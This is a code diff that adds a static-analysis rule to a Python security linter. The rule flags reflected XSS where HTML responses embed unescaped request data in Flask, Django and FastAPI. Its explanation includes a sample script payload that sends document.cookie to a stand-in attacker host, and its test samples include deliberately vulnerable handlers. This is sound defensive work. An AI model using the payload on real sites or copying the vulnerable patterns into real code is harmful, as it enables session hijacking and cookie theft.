@@ -1,0 +1,108 @@
+"""TG110: an HTTP response whose HTML body carries unescaped user input."""
+
+from __future__ import annotations
+
+import ast
+from typing import Optional
+
+from tabguard.engine.rule import Invalid, Rule
+from tabguard.rules.injection._strings import is_string_building, raised
+
+# Response classes whose body is HTML unless another content type is given.
+_HTML_BY_DEFAULT = frozenset(
+    {
+        "flask.make_response", "flask.Response", "werkzeug.Response", "werkzeug.wrappers.Response",
+        "django.http.HttpResponse", "django.http.response.HttpResponse", "quart.make_response",
+    }
+)
+_HTML_ALWAYS = frozenset(
+    {"fastapi.responses.HTMLResponse", "starlette.responses.HTMLResponse", "fastapi.HTMLResponse"}
+)
+_TYPE_KEYWORDS = ("mimetype", "content_type", "media_type")
+_STRING_RETURN_FRAMEWORKS = ("flask", "quart", "bottle")
+
+
+def _declared_type(call: ast.Call, ctx) -> Optional[str]:
+    for name in _TYPE_KEYWORDS:
+        keyword = ctx.keyword(call, name)
+        if keyword is not None:
+            value = ctx.constant_value(keyword.value)
+            return value if isinstance(value, str) else "unknown"
+    return None
+
+
+class HtmlResponseXss(Rule):
+    id = "TG110"
+    name = "reflected-xss-response"
+    severity = "high"
+    confidence = "medium"
+    cwe = (79,)
+    owasp = "A05:2025"
+    message = "HTML response built from user input ({source}) without escaping"
+    placeholders = {"source": "request data"}
+    aliases = ()
+    what = "The response body is HTML and includes {source} as written, bypassing template auto-escaping."
+    why = (
+        "A link such as `/hello?name=<script>fetch('//evil.test?c='+document.cookie)</script>` makes the "
+        "page run the attacker's script in the victim's session (reflected XSS): it reads the page, "
+        "acts as the user and steals non-HttpOnly cookies. Flask sends a returned string as `text/html`, "
+        "as does Django's `HttpResponse`."
+    )
+    how = (
+        "Render through a template with auto-escaping (`render_template`, Django templates), escape each "
+        "value with `markupsafe.escape` / `html.escape`, or return JSON (`jsonify`) or `text/plain`."
+    )
+    example = 'return render_template("hello.html", name=name)\nreturn f"<h1>Hello {escape(name)}</h1>"'
+    references = (
+        "https://cwe.mitre.org/data/definitions/79.html",
+        "https://cheatsheetseries.owasp.org/cheatsheets/Cross_Site_Scripting_Prevention_Cheat_Sheet.html",
+        "https://flask.palletsprojects.com/en/stable/security/#cross-site-scripting-xss",
+    )
+    VALID = (
+        'from flask import Flask, request\nfrom markupsafe import escape\napp = Flask(__name__)\n'
+        '@app.route("/hi")\ndef hi():\n    return f"<h1>Hello {escape(request.args[\'name\'])}</h1>"\n',
+        'from flask import Flask, request, jsonify\napp = Flask(__name__)\n@app.route("/hi")\ndef hi():\n'
+        '    return jsonify(name=request.args["name"])\n',
+        'from django.http import HttpResponse\ndef v(request):\n'
+        '    return HttpResponse(request.GET["q"], content_type="text/plain")\n',
+        'from fastapi import FastAPI\napp = FastAPI()\n@app.get("/hi")\ndef hi(name: str):\n    return {"msg": f"Hello {name}"}\n',
+    )
+    INVALID = (
+        Invalid(
+            'from flask import Flask, request\napp = Flask(__name__)\n@app.route("/hi")\ndef hi():\n'
+            '    name = request.args.get("name", "")\n    return f"<h1>Hello {name}</h1>"\n'
+        ),
+        Invalid('from django.http import HttpResponse\ndef search(request):\n'
+                '    return HttpResponse("<p>No results for " + request.GET["q"] + "</p>")\n'),
+        Invalid('from fastapi.responses import HTMLResponse\nfrom fastapi import FastAPI\napp = FastAPI()\n'
+                '@app.get("/p/{slug}")\ndef page(slug: str):\n    return HTMLResponse(f"<h2>{slug}</h2>")\n'),
+        Invalid('from flask import make_response, request\ndef f():\n    return make_response(request.args["msg"])\n'),
+    )
+
+    def visit_Call(self, node: ast.Call, ctx) -> None:
+        callee = ctx.call_name(node) or ""
+        if callee in _HTML_ALWAYS:
+            pass
+        elif callee in _HTML_BY_DEFAULT:
+            declared = _declared_type(node, ctx)
+            if declared is not None and "html" not in declared:
+                return
+        else:
+            return
+        body = ctx.argument(node, 0, "content") or ctx.argument(node, 0, "response")
+        self._check(body, node, ctx)
+
+    def visit_Return(self, node: ast.Return, ctx) -> None:
+        func = ctx.function
+        if node.value is None or func is None or not is_string_building(node.value, ctx):
+            return
+        roots = {target.split(".")[0] for target in ctx.module.imports.values()}
+        routes = ctx.route_decorators(func)
+        if not routes or not roots & set(_STRING_RETURN_FRAMEWORKS) or "fastapi" in roots:
+            return
+        self._check(node.value, node.value, ctx)
+
+    def _check(self, body: Optional[ast.expr], node: ast.AST, ctx) -> None:
+        source = ctx.taint(body)
+        if source is not None:
+            ctx.report(self, node, details={"source": source.label}, source=source, severity=raised(self, source))
